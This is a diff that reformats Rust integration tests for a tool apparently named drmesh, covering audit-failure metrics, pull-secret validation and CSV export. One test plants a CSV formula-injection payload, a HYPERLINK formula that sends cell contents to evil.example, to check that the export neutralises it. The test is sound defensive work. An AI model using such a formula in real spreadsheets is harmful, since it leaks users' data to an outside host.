@@ -16,7 +16,8 @@ fn drmesh(args: &[&str]) -> std::process::Output {
 }
 
 fn metric(text: &str, name: &str) -> f64 {
-    let line = text.lines().find(|l| l.starts_with(&format!("{name} "))).unwrap_or_else(|| panic!("no {name}:\n{text}"));
+    let line =
+        text.lines().find(|l| l.starts_with(&format!("{name} "))).unwrap_or_else(|| panic!("no {name}:\n{text}"));
     line.rsplit(' ').next().and_then(|v| v.parse().ok()).expect("a number")
 }
 
@@ -42,7 +43,8 @@ fn audit_records_that_cannot_be_written_are_counted_for_the_alert() {
     assert_eq!(metric(&metrics.encode(), "drmesh_audit_write_failures_total"), 2.0);
     // A working sink counts nothing.
     let file = tempfile::NamedTempFile::new().expect("temp file");
-    let ok = AuditSink::append_to(file.path()).expect("open").counting_failures_in(metrics.audit_write_failures.clone());
+    let ok =
+        AuditSink::append_to(file.path()).expect("open").counting_failures_in(metrics.audit_write_failures.clone());
     ok.record(event());
     assert_eq!(metric(&metrics.encode(), "drmesh_audit_write_failures_total"), 2.0);
     assert_eq!(std::fs::read_to_string(file.path()).expect("read").lines().count(), 1);
@@ -110,7 +112,11 @@ fn a_product_pulls_its_image_with_the_pull_secrets_it_names() {
     std::fs::write(&file, product("    imagePullSecrets: [{name: Not_A_Name}]\n")).expect("write");
     let out = drmesh(&["validate", "-f", file.to_str().expect("utf-8")]);
     assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stdout));
-    assert!(String::from_utf8_lossy(&out.stdout).contains("imagePullSecrets"), "{}", String::from_utf8_lossy(&out.stdout));
+    assert!(
+        String::from_utf8_lossy(&out.stdout).contains("imagePullSecrets"),
+        "{}",
+        String::from_utf8_lossy(&out.stdout)
+    );
 }
 
 #[test]
@@ -127,7 +133,15 @@ fn the_access_review_csv_opens_in_a_spreadsheet_without_running_formulas() {
     let indent = &line[..line.len() - line.trim_start().len()];
     let planted = format!("{indent}purpose: \"=HYPERLINK(\\\"https://evil.example/?\\\"&A1,\\\"click\\\")\"");
     std::fs::write(&police, text.replacen(&line, &planted, 1)).expect("write");
-    let out = drmesh(&["access-review", "-f", dir.path().to_str().expect("utf-8"), "--output", "csv", "--now", "2026-06-01T00:00:00Z"]);
+    let out = drmesh(&[
+        "access-review",
+        "-f",
+        dir.path().to_str().expect("utf-8"),
+        "--output",
+        "csv",
+        "--now",
+        "2026-06-01T00:00:00Z",
+    ]);
     assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
     let csv = String::from_utf8_lossy(&out.stdout);
     assert!(csv.contains("\"'=HYPERLINK("), "the planted purpose is neutralised:\n{csv}");
